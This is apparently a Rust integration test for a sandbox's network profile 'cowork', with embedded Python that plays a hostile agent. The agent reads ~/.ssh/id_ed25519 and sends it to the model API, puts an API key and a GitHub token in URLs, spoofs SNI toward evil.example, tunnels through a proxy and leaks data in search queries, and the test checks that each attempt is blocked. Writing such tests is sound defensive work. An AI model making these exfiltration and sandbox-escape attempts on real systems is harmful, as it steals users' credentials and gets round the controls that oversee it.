//! The shipped profile `cowork`, as it is: its model and its registries are reached, and what a hostile agent would do with
//! them is not.
//!
//! The hosts are stand-ins in a network namespace of the test's own, at an address that is nobody's here: the rules, the
//! certificates and the checks of addresses are those of every run.

use crate::inspect::certify;
use crate::support::run::Run;
use crate::support::{Home, binary, for_each_user};
use crate::{event, events};
use serde_json::Value;
use std::path::Path;

const KEY: &str = "sk-ant-real-0123456789abcdefghijklmnop";
const NAMES: [&str; 10] = [
    "api.anthropic.com",
    "api.openai.com",
    "pypi.org",
    "registry.npmjs.org",
    "crates.io",
    "github.com",
    "api.github.com",
    "proxy.golang.org",
    "upload.pypi.org",
    "evil.example",
];

/// Makes 203.0.113.0/24 local, serves every name there on ports 443 and 80, and starts the run beside it.
const WORLD: &str = r#"
import fcntl, http.server, json, os, socket, ssl, struct, subprocess, sys, threading
lo = struct.pack("16sH", b"lo", 0x49)
fcntl.ioctl(socket.socket(), 0x8914, lo + bytes(14))
net, index = socket.inet_aton("203.0.113.0"), socket.if_nametoindex("lo")
route = struct.pack("BBBBBBBBI", 2, 24, 0, 0, 255, 4, 254, 2, 0)
route += struct.pack("HH4s", 8, 1, net) + struct.pack("HHI", 8, 4, index)
link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
link.send(struct.pack("IHHII", 16 + len(route), 24, 0x605, 1, 0) + route)
assert struct.unpack("i", link.recv(4096)[16:20])[0] == 0
log, lock = open("world.log", "w"), threading.Lock()
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("latin-1")
        said = {"host": self.headers["Host"], "line": self.command + " " + self.path, "body": body,
                "login": self.headers.get("X-Api-Key") or self.headers.get("Authorization")}
        with lock:
            print(json.dumps(said), file=log, flush=True)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    do_POST = do_PUT = do_DELETE = do_HEAD = do_GET
    def log_message(self, *words):
        pass
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("world.pem", "world.key")
for port in 443, 80:
    server = http.server.ThreadingHTTPServer(("203.0.113.1", port), Handler)
    server.daemon_threads = True
    if port == 443:
        server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
os.chdir("work")
sys.exit(subprocess.call(sys.argv[1:]))
"#;

/// What an agent tries; a line for each, with what came of it.
const AGENT: &str = r#"
import http.client, json, os, socket, ssl, sys
own = os.environ["ANTHROPIC_API_KEY"]
def ask(line, body=None, **headers):
    method, address = line.split(" ", 1)
    host, path = address.split("/", 1)
    headers = {name.replace("_", "-"): value for name, value in headers.items()}
    try:
        link = http.client.HTTPSConnection(host, timeout=120)
        link.request(method, "/" + path, body, headers)
        answer = link.getresponse()
        said = answer.read().decode()
        return str(answer.status) + " " + (json.loads(said)["reason"] if said.startswith("{") else said)
    except socket.gaierror:
        return "no such name"
    except ssl.SSLError as error:
        return error.reason or "ssl"
    except OSError as error:
        return type(error).__name__
    except http.client.HTTPException:
        return "ended"
def try_(name, *words, **headers):
    print(name, "=", ask(*words, **headers), flush=True)
def hello(name, sni, by_proxy):
    try:
        if by_proxy:
            link = socket.create_connection(("198.18.0.1", 3128), 120)
            link.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (name, name)).encode())
            link.recv(4096)
        else:
            link = socket.create_connection((name, 443), 120)
        context = ssl.create_default_context()
        context.check_hostname = False
        context.wrap_socket(link, server_hostname=sni)
        return "reached"
    except ssl.SSLError as error:
        return error.reason
    except OSError as error:
        return type(error).__name__
note = lambda text: json.dumps({"messages": [{"content": text}]})
token = "gh" + "p_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
try_("index", "GET pypi.org/simple/six/")
try_("npm", "GET registry.npmjs.org/@scope%2fname")
try_("crate", "HEAD crates.io/api/v1/crates/serde")
try_("go", "GET proxy.golang.org/github.com/a/b/@v/list")
try_("fetch", "POST github.com/o/r.git/git-upload-pack", b"0032want 0123456789012345678901234567890123456789\n")
try_("prompt", "POST api.anthropic.com/v1/messages", note("hello"), x_api_key=own)
try_("prompt with a token", "POST api.anthropic.com/v1/messages", note("push with " + token + " please"), authorization="Bearer " + own)
try_("publish to pypi", "POST pypi.org/legacy/", b"x")
try_("publish to npm", "PUT registry.npmjs.org/evil", b"x")
try_("publish by a header", "GET registry.npmjs.org/evil", x_http_method_override="PUT")
try_("publish elsewhere", "POST upload.pypi.org/legacy/", b"x")
try_("yank", "DELETE crates.io/api/v1/crates/serde/1.0.0/yank")
try_("push", "POST github.com/o/r.git/git-receive-pack", b"x")
try_("push, written otherwise", "POST github.com/o/r.git/x%2f..%2fgit-receive-pack", b"x")
try_("gist", "POST api.github.com/gists", b"x")
try_("a module of mine", "GET proxy.golang.org/evil.example/secret/@v/list")
try_("a sum of mine", "GET proxy.golang.org/sumdb/sum.golang.org/lookup/evil.example/secret@v1.0.0")
try_("a body to look with", "GET pypi.org/simple/six/", b"x" * 2000)
try_("a key of mine", "POST api.anthropic.com/v1/files", b"x", x_api_key="sk-ant-of-mine")
try_("a key of mine beside", "POST api.anthropic.com/v1/files", b"x", x_api_key=own, authorization="Bearer sk-ant-of-mine")
try_("no key", "POST api.anthropic.com/v1/messages", note("x"))
try_("a model without a key", "POST api.openai.com/v1/responses", note("x"), authorization="Bearer sk-of-mine")
try_("the key elsewhere", "GET pypi.org/simple/?k=" + own)
try_("a token in a path", "GET pypi.org/simple/" + token + "/")
try_("another host", "GET pypi.org/simple/", host="evil.example")
try_("unlisted", "GET evil.example/")
ssh = open(os.path.expanduser("~/.ssh/id_ed25519")).read()
try_("a decoy to the model", "POST api.anthropic.com/v1/messages", note(ssh), x_api_key=own)
print("another hello =", hello("pypi.org", "evil.example", False))
print("another hello by the proxy =", hello("pypi.org", "evil.example", True))
print("the proxy itself =", hello("evil.example", "evil.example", True))
sent = 0
while ask("GET crates.io/api/v1/crates?q=" + "a b c d ".replace(" ", "+") * 3000) == "200 ok" and sent < 200:
    sent += 1
print("queries =", sent)
"#;

/// The run; gives what came of each try, and what the hosts heard.
fn run(home: &Home, profile: &str, agent: &str) -> (Vec<(String, String)>, Vec<Value>) {
    certify(home, &NAMES, "world");
    let hosts: String = NAMES.iter().map(|name| format!("203.0.113.1 {name}\n")).collect();
    home.write("hosts", &format!("127.0.0.1 localhost\n{hosts}"));
    home.write("world.py", WORLD);
    home.write("work/agent.py", agent);
    let flags = if home.user.is_root() { "-mn" } else { "-Urmn" };
    let script = "mount --bind hosts /etc/hosts && mount --bind authorities.pem /etc/ssl/certs/ca-certificates.crt \
                  && exec python3 world.py \"$@\"";
    let program = binary().to_str().unwrap();
    let words =
        [flags, "sh", "-c", script, "sh", program, "exec", "--profile", profile, "--", "python3", "agent.py"];
    let run = Run::new(Path::new("/usr/bin/unshare"), home).args(&words).folder(home.path());
    let output = run.env("ANTHROPIC_API_KEY", KEY).output();
    let text = output.stdout();
    assert!(!text.contains(KEY) && !output.stderr().contains(KEY));
    let tried = text.lines().filter_map(|line| line.split_once(" = "));
    let tried: Vec<_> = tried.map(|(name, what)| (name.to_owned(), what.to_owned())).collect();
    assert!(!tried.is_empty(), "{output:?}");
    let heard = std::fs::read_to_string(home.join("world.log")).unwrap();
    (tried, heard.lines().map(|line| serde_json::from_str(line).unwrap()).collect())
}

#[test]
fn cowork_reaches_its_model_and_its_registries_and_nothing_else() {
    for_each_user(|home| {
        let home = &home;
        let (tried, heard) = run(home, "cowork", AGENT);
        let came = |name: &str| {
            let found = tried.iter().find(|(known, _)| known == name);
            found.unwrap_or_else(|| panic!("{name}: {tried:?}")).1.clone()
        };
        for name in ["index", "npm", "crate", "go", "fetch", "prompt", "prompt with a token"] {
            assert!(came(name).starts_with("200"), "{name}: {}", came(name));
        }
        for (name, what) in [
            ("publish to pypi", "403 method"),
            ("publish to npm", "403 method"),
            ("publish by a header", "403 method-override"),
            ("publish elsewhere", "no such name"),
            ("yank", "403 method"),
            ("push", "403 path"),
            ("push, written otherwise", "403 odd-path"),
            ("gist", "403 method"),
            ("a module of mine", "403 path"),
            ("a sum of mine", "403 path"),
            ("a body to look with", "413 limit-body"),
            ("a key of mine", "403 login"),
            ("a key of mine beside", "403 login"),
            ("no key", "403 login"),
            ("a model without a key", "403 login"),
            ("the key elsewhere", "403 placeholder"),
            ("a token in a path", "403 dlp"),
            ("another host", "421 name-mismatch"),
            ("unlisted", "no such name"),
            ("a decoy to the model", "403 dlp"),
            ("another hello", "TLSV1_ALERT_ACCESS_DENIED"),
            ("another hello by the proxy", "TLSV1_ALERT_ACCESS_DENIED"),
        ] {
            assert_eq!(came(name), what, "{name}");
        }
        assert_ne!(came("the proxy itself"), "reached");
        let hosts: Vec<&str> = heard.iter().map(|said| said["host"].as_str().unwrap()).collect();
        assert!(!hosts.contains(&"evil.example") && !hosts.contains(&"upload.pypi.org"), "{hosts:?}");
        let lines: Vec<&str> = heard.iter().map(|said| said["line"].as_str().unwrap()).collect();
        assert_eq!(lines.iter().filter(|line| !line.contains("?q=")).count(), 7, "{lines:?}");
        let prompts: Vec<&Value> = heard.iter().filter(|said| said["host"] == "api.anthropic.com").collect();
        assert_eq!(prompts[0]["login"], KEY);
        assert_eq!(prompts[1]["login"], format!("Bearer {KEY}"));
        let body = prompts[1]["body"].as_str().unwrap();
        assert!(body.contains("[AIS:") && !body.contains("A1b2C3"), "{body}");
        // What is asked for leaves too, and there is an end to it: 1 MiB at this host.
        let asked: usize = lines.iter().filter(|line| line.contains("?q=")).map(|line| line.len()).sum();
        assert!(asked > 200_000 && asked <= 1 << 20, "{asked}");
        let alert = events(home).into_iter().any(|(name, data)| name == "network" && data["what"] == "alert");
        assert!(alert, "a decoy that goes out is an alert");
        assert_eq!(event(home, "network_start")["credentials"], serde_json::json!(["ANTHROPIC_API_KEY"]));
    });
}

/// Less than cowork.
const LESS: &str = "version: 1\nextends: [cowork]\nnetwork:\n  deny: [{ host: pypi.org }]\n";

#[test]
fn a_profile_on_top_takes_away_by_deny_and_gets_nothing_back_by_another_mode() {
    for_each_user(|home| {
        let home = &home;
        let agent = |names: &[&str]| {
            let lines: String =
                names.iter().map(|name| format!("try_({name:?}, \"GET {name}/simple/\")\n")).collect();
            let end = AGENT.find("note = ").unwrap();
            AGENT[..end].replace("os.environ[\"ANTHROPIC_API_KEY\"]", "\"\"") + &lines
        };
        let less = home.write("less.yaml", LESS);
        let names = ["pypi.org", "registry.npmjs.org"];
        let (tried, _) = run(home, less.to_str().unwrap(), &agent(&names));
        assert_eq!(tried[0].1, "no such name");
        assert_eq!(tried[1].1, "200 ok", "the control");
        let again = "version: 1\nextends: [offline]\nnetwork: { mode: filtered, allow: [{ host: pypi.org, tls: inspect }] }\n";
        let again = home.write("again.yaml", again);
        let (tried, _) = run(home, again.to_str().unwrap(), &agent(&names));
        assert_eq!((&*tried[0].1, &*tried[1].1), ("200 ok", "no such name"));
    });
}
